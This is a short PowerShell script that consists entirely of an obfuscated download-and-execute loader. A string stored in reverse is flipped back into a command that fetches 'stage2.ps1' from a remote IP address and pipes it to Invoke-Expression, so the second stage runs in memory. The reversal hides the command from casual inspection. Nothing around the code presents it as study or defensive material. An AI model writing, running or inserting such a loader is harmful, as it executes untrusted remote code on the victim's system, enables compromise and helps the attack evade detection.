$t = 'xei | gnisraPcisaBesU- 1sp.2egats/32.001.15.891//:ptth rwi'
$cmd = $t[-1..-58] -join ''
Invoke-Expression $cmd
